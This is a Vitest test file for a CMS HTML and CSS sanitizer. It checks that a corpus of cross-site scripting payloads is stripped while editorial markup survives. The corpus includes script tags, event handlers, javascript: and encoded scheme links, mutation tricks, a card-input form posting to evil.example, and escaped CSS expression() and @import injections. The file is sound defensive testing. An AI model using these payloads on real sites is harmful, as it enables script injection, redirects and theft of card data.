import { describe, expect, it } from 'vitest';
import { sanitizeCmsHtml, sanitizeCss } from '@/cms/sanitize';

/** ARCHITECTURE §5: CMS HTML (paragraphs, banners, header slot 8) goes through one sanitizer. */

describe('sanitizeCmsHtml: hostile corpus', () => {
  const corpus: [string, string, RegExp][] = [
    ['script element', '<p>Hi</p><script>alert(1)</script>', /script|alert/i],
    ['script with odd casing', '<p>Hi</p><ScRiPt src="//evil.example/x.js"></ScRiPt>', /script|evil/i],
    ['onerror handler', '<img src="/x.png" onerror="alert(1)">', /onerror|alert/i],
    ['onclick on a link', '<a href="/c/men" onclick="steal()">Men</a>', /onclick|steal/i],
    ['onmouseover on a div', '<div onmouseover="alert(1)">x</div>', /onmouseover/i],
    ['javascript: link', '<a href="javascript:alert(1)">x</a>', /javascript/i],
    ['javascript: with entities', '<a href="jav&#x61;script&colon;alert(1)">x</a>', /javascript|alert/i],
    ['javascript: with whitespace', '<a href=" javascript:alert(1)">x</a>', /javascript/i],
    ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>', /vbscript/i],
    ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', /data:/i],
    ['data: image source', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', /data:|onload/i],
    ['iframe', '<iframe src="https://evil.example"></iframe><p>after</p>', /iframe|evil/i],
    ['object and embed', '<object data="x.swf"></object><embed src="x.swf">', /object|embed|swf/i],
    ['svg with script', '<svg><script>alert(1)</script></svg>', /svg|script|alert/i],
    ['form posting away', '<form action="https://evil.example"><input name="card"></form>', /form|input|evil/i],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">', /meta|evil/i],
    ['base href', '<base href="https://evil.example/">', /base|evil/i],
    ['style element outside slot 8', '<style>body{display:none}</style><p>x</p>', /style|display/i],
    ['inline style expression', '<p style="width: expression(alert(1))">x</p>', /expression|alert/i],
    ['inline style url', '<p style="background: url(javascript:alert(1))">x</p>', /url|javascript/i],
    ['srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', /srcdoc|script/i],
    ['protocol-relative source', '<img src="//evil.example/pixel.gif">', /evil/i],
    ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', /onerror|alert/i],
  ];

  it.each(corpus)('removes %s', (_name, input, forbidden) => {
    expect(sanitizeCmsHtml(input)).not.toMatch(forbidden);
  });

  it('keeps the editorial markup editors write', () => {
    const html =
      '<h2 class="promo">Free shipping</h2><p>Orders over <strong>$75</strong> ship free. <a href="/shipping-information" class="more">Details</a></p>' +
      '<ul><li>One</li><li>Two</li></ul><img src="/is/image/brand/logo?wid=10" alt="Logo" width="10" height="10" />';
    expect(sanitizeCmsHtml(html)).toBe(html);
  });

  it('adds rel="noopener noreferrer" to links that open a new tab', () => {
    expect(sanitizeCmsHtml('<a href="https://careers.example.com" target="_blank">Careers</a>')).toBe(
      '<a href="https://careers.example.com" target="_blank" rel="noopener noreferrer">Careers</a>',
    );
    expect(sanitizeCmsHtml('<a href="https://x.example" target="_blank" rel="nofollow">x</a>')).toContain(
      'rel="nofollow noopener noreferrer"',
    );
    expect(sanitizeCmsHtml('<a href="/faq">FAQ</a>')).toBe('<a href="/faq">FAQ</a>');
  });

  it('rewrites link targets through the given rewriter, but never unsafe ones', () => {
    const rewriteHref = (href: string) => (href.startsWith('/') ? `/uk/en-gb${href}` : href);
    expect(sanitizeCmsHtml('<a href="/c/men">Men</a>', { rewriteHref })).toBe('<a href="/uk/en-gb/c/men">Men</a>');
    expect(sanitizeCmsHtml('<a href="javascript:alert(1)">x</a>', { rewriteHref: () => '/safe' })).toBe('<a>x</a>');
  });

  it('keeps data- and aria- attributes and safe inline styles', () => {
    expect(sanitizeCmsHtml('<a href="#RepairKit" data-cms-dialog="RepairKit" aria-haspopup="dialog">here</a>')).toBe(
      '<a href="#RepairKit" data-cms-dialog="RepairKit" aria-haspopup="dialog">here</a>',
    );
    expect(sanitizeCmsHtml('<p style="text-align:center;color:#2b2520">x</p>')).toBe('<p style="text-align:center;color:#2b2520">x</p>');
  });

  it('returns an empty string for nothing', () => {
    expect(sanitizeCmsHtml(undefined)).toBe('');
    expect(sanitizeCmsHtml('')).toBe('');
  });
});

describe('site-wide styling HTML (header slot 8, spec 1 §2.2)', () => {
  it('keeps style tags only when asked to', () => {
    const styling = '<style>.promo-strip{background:#2b2520;color:#f4efe6}</style>';
    expect(sanitizeCmsHtml(styling, { allowStyleTags: true })).toBe(styling);
    expect(sanitizeCmsHtml(styling)).toBe('');
  });

  it('still removes scripts and handlers next to the styles', () => {
    const out = sanitizeCmsHtml('<style>.a{color:red}</style><script>alert(1)</script><p onclick="x()">t</p>', { allowStyleTags: true });
    expect(out).toBe('<style>.a{color:red}</style><p>t</p>');
  });

  it.each([
    ['expression()', '.a{width:expression(alert(1))}'],
    ['escaped expression()', '.a{width:expr\\65ssion(alert(1))}'],
    ['expression() split by a comment', '.a{width:expr/**/ession(alert(1))}'],
    ['url(javascript:)', '.a{background:url(javascript:alert(1))}'],
    ['url("javascript:") with quotes and spaces', '.a{background:url( "javascript:alert(1)" )}'],
    ['escaped javascript: scheme', '.a{background:url(java\\73 cript:alert(1))}'],
    ['@import', '@import url(https://evil.example/x.css);'],
    ['escaped @import', '@\\69mport "https://evil.example/x.css";'],
    ['behavior', '.a{behavior:url(x.htc)}'],
    ['-moz-binding', '.a{-moz-binding:url(https://evil.example/x.xml#x)}'],
    ['data: url', '.a{background:url(data:image/svg+xml;base64,AAAA)}'],
  ])('strips %s from style tags', (_name, css) => {
    const out = sanitizeCmsHtml(`<style>${css}.b{color:red}</style>`, { allowStyleTags: true });
    expect(out).not.toMatch(/expression|expr|javascript|java|import|behavior|binding|data:|evil/i);
    expect(out).toContain('.b{color:red}');
  });

  it('keeps http(s) and relative background images', () => {
    expect(sanitizeCss('.a{background:url(https://cdn.example/x.png)} .b{background:url(/x.png)}')).toBe(
      '.a{background:url(https://cdn.example/x.png)} .b{background:url(/x.png)}',
    );
  });

  it('never lets the CSS close its element', () => {
    const out = sanitizeCmsHtml('<style>.a{content:"</style><script>alert(1)</script>"}</style>', { allowStyleTags: true });
    expect(out).not.toMatch(/<script/i);
  });
});
